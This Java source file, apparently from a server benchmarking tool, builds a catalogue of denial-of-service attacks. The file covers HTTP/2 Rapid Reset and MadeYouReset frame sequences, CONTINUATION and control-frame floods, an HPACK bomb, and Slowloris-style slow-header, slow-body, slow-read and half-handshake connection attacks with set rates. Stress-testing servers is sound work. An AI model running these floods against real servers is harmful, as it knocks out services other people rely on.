package dev.causeway.benchmarks.attack;

import static dev.causeway.benchmarks.attack.Frames.frame;
import static dev.causeway.benchmarks.attack.Frames.join;
import static dev.causeway.benchmarks.attack.Frames.number;
import static dev.causeway.benchmarks.attack.Frames.request;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Every attack that needs no other program. */
final class Attacks {
  private static final int GET = 2;
  private static final int POST = 3;
  private static final int CANCEL = 8;
  private static final byte INDEXED_GET = (byte) 0x82;
  private static final int LARGE_PIECE = 16_000;
  private static final int STREAMS = 100;
  private static final int WINDOW = 70_000;

  private Attacks() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>(frames());
    all.addAll(connections());
    return all;
  }

  private static List<Attack> frames() {
    byte[] get = request(GET, "/");
    byte[] post = request(POST, "/");
    byte[] bomb = Frames.bomb();
    byte[] big = new byte[LARGE_PIECE];
    return List.of(
        flood(
            "rapid-reset",
            "Requests reset at once (CVE-2023-44487)",
            2000,
            "requests",
            n ->
                join(
                    frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, id(n), get),
                    frame(Frames.RST_STREAM, 0, id(n), number(CANCEL)))),
        flood(
            "made-you-reset",
            "Requests that we must reset (CVE-2025-8671)",
            2000,
            "requests",
            n ->
                join(
                    frame(Frames.HEADERS, Frames.END_HEADERS, id(n), post),
                    frame(Frames.WINDOW_UPDATE, 0, id(n), number(Integer.MAX_VALUE)))),
        flood(
            "continuation",
            "Header blocks in pieces of a byte",
            5000,
            "frames",
            n ->
                n == 0
                    ? frame(Frames.HEADERS, Frames.END_STREAM, 1, INDEXED_GET)
                    : frame(Frames.CONTINUATION, 0, 1, (byte) 0x82)),
        flood(
            "large-continuation",
            "Header blocks without end",
            500,
            "frames of 16 KB",
            n ->
                n == 0
                    ? frame(Frames.HEADERS, Frames.END_STREAM, 1, INDEXED_GET)
                    : frame(Frames.CONTINUATION, 0, 1, big)),
        flood("settings", "SETTINGS", 5000, "frames", n -> Frames.settings(WINDOW)),
        flood("ping", "PING", 5000, "frames", n -> frame(Frames.PING, 0, 0, new byte[8])),
        new Attack(
            "empty-data",
            "Empty DATA frames",
            5000,
            "frames",
            new FrameFlood(
                frame(Frames.HEADERS, Frames.END_HEADERS, 1, post), n -> frame(Frames.DATA, 0, 1))),
        flood(
            "empty-headers",
            "Empty HEADERS frames",
            2000,
            "frames",
            n -> frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, id(n))),
        flood(
            "window-update",
            "WINDOW_UPDATE of a byte",
            5000,
            "frames",
            n -> frame(Frames.WINDOW_UPDATE, 0, 0, number(1))),
        flood(
            "hpack-bomb",
            "4 KB of headers that mean 4 MB",
            500,
            "requests",
            n -> frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, id(n), bomb)));
  }

  private static List<Attack> connections() {
    byte[] endless = ascii("GET / HTTP/1.1\r\nHost: " + Target.HOST + "\r\n");
    byte[] upload =
        ascii("POST / HTTP/1.1\r\nHost: " + Target.HOST + "\r\nContent-Length: 1000000\r\n\r\n");
    byte[] download = ascii("GET /big HTTP/1.1\r\nHost: " + Target.HOST + "\r\n\r\n");
    byte[][] streams = new byte[STREAMS][];
    for (int i = 0; i < STREAMS; i++) {
      streams[i] =
          frame(
              Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, id(i), request(GET, "/big"));
    }
    byte[] zero = join(Frames.opening(), Frames.zeroWindow(), join(streams));
    return List.of(
        new Attack(
            "handshakes", "TLS handshakes for random names", 100, "handshakes", new Handshakes()),
        held("half-hello", "Half a ClientHello", true, 2000, halfHello(), nothing(), 500),
        held(
            "slow-headers",
            "Headers, a line per turn",
            false,
            1000,
            endless,
            ascii("X-A: b\r\n"),
            500),
        held("slow-body", "Uploads, a byte per turn", false, 500, upload, ascii("x"), 500),
        held(
            "slow-read",
            "Downloads of 100 MB, taken 512 bytes per turn",
            false,
            50,
            download,
            nothing(),
            50),
        held(
            "slow-read-h2",
            "100 downloads per connection without a window",
            false,
            10,
            zero,
            nothing(),
            10),
        held("idle", "Connections that say nothing", false, 5000, nothing(), nothing(), 1000));
  }

  private static Attack flood(
      String name,
      String title,
      int perSecond,
      String event,
      java.util.function.IntFunction<byte[]> frames) {
    return new Attack(name, title, perSecond, event, new FrameFlood(nothing(), frames));
  }

  private static Attack held(
      String name,
      String title,
      boolean secure,
      int connections,
      byte[] opening,
      byte[] drip,
      int perSecond) {
    return new Attack(
        name,
        title + ", " + connections + " connections",
        perSecond,
        "turns",
        new HeldConnections(secure, connections, opening, drip, 512));
  }

  /** A record that promises 512 bytes of handshake and holds the first few. */
  private static byte[] halfHello() {
    return new byte[] {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};
  }

  private static byte[] nothing() {
    return new byte[0];
  }

  private static int id(int n) {
    return 2 * n + 1;
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }
}
